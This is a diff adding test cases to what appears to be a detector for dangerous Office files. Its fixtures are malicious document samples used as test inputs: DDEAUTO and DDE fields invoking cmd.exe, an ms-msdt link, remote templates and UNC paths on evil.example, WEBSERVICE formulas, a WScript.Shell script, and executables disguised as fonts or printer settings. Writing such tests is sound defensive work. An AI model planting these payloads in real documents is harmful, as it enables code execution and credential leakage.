@@ -10,7 +10,18 @@ import pytest
 from sharing.vault.codes import Kind, Trouble
 from sharing.vault.confined.found import Found
 from sharing.vault.confined.recognise import recognise
-from tests.attached import archive, compound, email, excel, office, old_word, pdf, picture, word
+from tests.attached import (
+    PART,
+    archive,
+    compound,
+    email,
+    excel,
+    office,
+    old_word,
+    pdf,
+    picture,
+    word,
+)
 
 XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
 RELATION = (
@@ -77,6 +88,31 @@ def table(said):
     )
 
 
+MAIN = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+DDE = f"<é:p xmlns:é='{MAIN}'><é:fldSimple é:instr='DDEAUTO c:\\\\cmd.exe'/></é:p>"
+EXE = b"MZ" + bytes(range(256)) * 20
+
+
+def disguised(begins):
+    """Return the key under which a program begins like a font."""
+    key = bytes(a ^ b for a, b in zip(EXE, begins, strict=False)).ljust(16, b"\1")[::-1].hex()
+    return "{" + "-".join((key[:8], key[8:12], key[12:16], key[16:20], key[20:])) + "}"
+
+
+def setting(content):
+    """Return it with what a printer is set up by at the places where that stands."""
+    size = struct.pack("<2s2xHH", b"\0\4", 220, len(content) - 220)
+    return content[:64] + size + content[72:]
+
+
+def drawn(mark):
+    return word({"word/document.xml": f"<a xmlns:v='urn:schemas-microsoft-com:vml'>{mark}</a>"})
+
+
+def tables(part, said):
+    return excel({f"xl/{part}.xml": said})
+
+
 TAKEN = {
     "pictures": word(
         {
@@ -123,6 +159,23 @@ TAKEN = {
     "numbers of pages": fields("b", " PAGE ", "s", "e"),
     "fields in fields": fields("b", " IF ", "b", " MERGEFIELD a ", "s", "e", "= 1", "s", "e"),
     "sums": fields("b", "=", "b", "PAGE", "e", "-1", "s", "b", " DATE ", "e", "e"),
+    "a field's link": fields("b", ' HYPERLINK "https://police.example/" ', "s", "e"),
+    "sums of a table": letter("<w:fldSimple w:instr=' =SUM(ABOVE) '/>"),
+    "a formula": tables("worksheets/a", "<c><f>VLOOKUP(A1,'a|b'!A:B,2)&amp;\"|\"</f><v>1</v></c>"),
+    "another book": excel(
+        {"xl/_rels/a.xml.rels": RELATION.format("externalLinkPath", "2026.xlsx")}
+    ),
+    "rows that were asked": tables("connections", "<a><connection id='1' interval='0'/></a>"),
+    "what is counted": tables(
+        "p",
+        "<pivotCacheDefinition refreshOnLoad='1'><cacheSource type='worksheet'/>"
+        "</pivotCacheDefinition>",
+    ),
+    "an old picture": drawn("<v:imagedata src='' o='1'/><x:fill xmlns:x='x' src='http://a'/>"),
+    "whom letters go to": letter("<w:query w:val='SELECT * FROM a'/>"),
+    "types by endings": word(
+        {"word/a.dat": "<a/>"}, types="<Default Extension='DAT' ContentType='application/xml'/>"
+    ),
     "never closed": fields("b", " DATE "),
     "closed twice": fields("b", " DATE ", "e", "e", " DATE "),
     "an object": letter("<w:object w:on='1'/><w:fldSimple w:instr=' DATE '/>"),
@@ -146,6 +199,28 @@ REFUSED = {
         "a program for a printer": excel({"xl/printerSettings/p.bin": PRINTER + PROGRAM}),
         "a packed program": word({"word/media/image1.emz": gzip.compress(ENHANCED) + PROGRAM}),
         "a program that was packed": word({"word/media/image1.emz": gzip.compress(PROGRAM)}),
+        "a page as text": word({"word/a.txt": "<html>Two calls."}),
+        "no saved page either": word({"word/a.mht": "Two calls."}),
+        "too little for a printer": excel({"xl/printerSettings/a.bin": b"\1" * 9}),
+        "too little for a font": listed(font=hidden(b"OTTO")),
+        "a program listed as a font": listed(font=EXE, key=disguised(b"OTTO")),
+        "a program as a font of another's key": word(
+            {"word/payload/setup.odttf": EXE, "word/fontTable.xml": FONT_LIST}
+        ),
+        "a font that is not listed": word({"word/fonts/font1.odttf": hidden(FONT)}),
+        "a font under another name": listed("word/fonts/font2.odttf"),
+        "no font behind how it begins": listed(font=hidden(b"OTTO" + b"\0\1" + b"x" * 60)),
+        "a font with no tables": listed(font=hidden(b"OTTO" + bytes(60))),
+        "a font of more than it is": listed(font=hidden(b"OTTO" + b"\0\x20" + b"x" * 60)),
+        "a program as a printer": excel({"xl/printerSettings/a.bin": setting(EXE)}),
+        "no name of a printer": excel({"xl/printerSettings/a.bin": setting(b"\1\0" * 300)}),
+        "a printer of another name": word(
+            {"word/p.exe": PRINTER},
+            types='<Override PartName="/word/p.exe" ContentType="application/vnd.openxmlformats-'
+            'officedocument.wordprocessingml.printerSettings"/>',
+        ),
+        "a script": word({"word/payload/run.vbs": 'CreateObject("WScript.Shell")'}),
+        "a part of no type": word({"word/payload/a": "Two calls."}),
         "an archive": word({"word/objects/a.zip": archive({"setup.exe": PROGRAM})}),
         "slides": word({"word/objects/a.bin": office("presentationml.presentation")}),
         "a package": word({"word/objects/a.bin": compound({"\x01Ole10Native": PROGRAM})}),
@@ -159,6 +234,11 @@ REFUSED = {
         ),
     },
     Trouble.MACROS: {
+        "an old drawing that runs": word({"word/a.vml": "<xml><script>x()</script></xml>"}),
+        "what comes from a shop": word(
+            {"word/a.xml": "<a/>"},
+            types=PART.format("a", "application/vnd.ms-office.webextension+xml"),
+        ),
         "a letter with macros": word({"word/objects/inner.docx": MACROS}),
         "script in a drawing": word({"word/media/a.svg": DRAWING.format("<script/>")}),
         "a drawing that runs": word({"word/media/a.svg": DRAWING.format("<g onload='x()'/>")}),
@@ -174,6 +254,42 @@ REFUSED = {
         "a text and others": word({"word/a.txt": b"Hello" + archive({"a": "b"})}),
     },
     Trouble.FETCHES: {
+        "under another name": word({"word/document.xml": DDE}),
+        "under another name in two bytes": word({"word/document.xml": DDE.encode("utf-16")}),
+        "a table's under another name": tables("a", "<é:ddeLink xmlns:é='x' ddeService='cmd'/>"),
+        "a picture of a page": related("image", "https://police.example/logo.png"),
+        "a picture of a share": related("image", "file://///evil.example/share/seen.png"),
+        "above the root": related("attachedTemplate", "file:///c:/../../evil.example/t.dotm"),
+        "this computer and another": related(
+            "attachedTemplate", "file://localhost//evil.example/t"
+        ),
+        "another program": related("attachedTemplate", "ms-word:ofe|u|http://evil.example/t.dotm"),
+        "a link to a program": related("hyperlink", "ms-msdt:/id PCWDiagnostic"),
+        "letters to many": related("mailMergeSource", "file:///\\\\evil.example\\x.csv"),
+        "whom letters go to": letter("<w:connectString w:val='Data Source=\\\\evil.example\\x'/>"),
+        "how it is written anew": related("transform", "http://evil.example/x.xsl"),
+        "a field's picture": fields("b", " INCLUDEPICTURE 'http://evil.example/a' ", "s", "e"),
+        "a field's text": letter("<w:fldSimple w:instr='INCLUDETEXT a'/>"),
+        "a field's link": fields("b", ' HYPERLINK \\l "ms-msdt:/id" ', "s", "e"),
+        "an old picture": drawn("<v:shape><v:imagedata src='http://evil.example/a'/></v:shape>"),
+        "another book": excel(
+            {
+                "xl/_rels/a.xml.rels": RELATION.format(
+                    "externalLinkPath", "file:///\\\\evil.example\\a"
+                )
+            }
+        ),
+        "a formula": tables("worksheets/a", "<c><f>1+_xlfn.WEBSERVICE(A1)</f></c>"),
+        "a long formula": tables("worksheets/a", f"<c><f>{' ' * 9000}WEBSERVICE(A1)</f></c>"),
+        "a formula that asks a program": tables("a", "<f>cmd|'/c calc'!A0</f>"),
+        "rows of a server": tables("connections", "<a><connection refreshOnLoad='1'/></a>"),
+        "rows of a server each minute": tables("connections", "<connection interval='1'/>"),
+        "rows of a table": tables("q", "<queryTable refreshOnLoad='true'/>"),
+        "what is counted of a server": tables(
+            "p",
+            "<pivotCacheDefinition refreshOnLoad='1'><cacheSource type='external'/>"
+            "</pivotCacheDefinition>",
+        ),
         "a template": related("attachedTemplate", "http://evil.example/t.dotm"),
         "a template of a server": related("attachedTemplate", "\\\\evil.example\\t.dotm"),
         "another": related("attachedTemplate", "file://///evil.example/t.dotm"),
@@ -200,6 +316,12 @@ REFUSED = {
             {"word/document.xml": "<?xml version='1.0' encoding='cp037'?><a/>"}
         ),
         "not well formed": word({"word/document.xml": "<w:p><w:instrText>DDEAUTO c</w:p>"}),
+        "a font under no key": listed(key="{Hello}"),
+        "a part with two types": word(
+            {"word/a.xml": "<a/>"},
+            types='<Override PartName="/word/A.xml" ContentType="text/plain"/>',
+        ),
+        "two parts with one name": word({"word/a.xml": "<a/>", "word/%61.xml": "<a/>"}),
         "relations that break": word({"word/_rels/a.rels": "<r><a></r>"}),
     },
 }
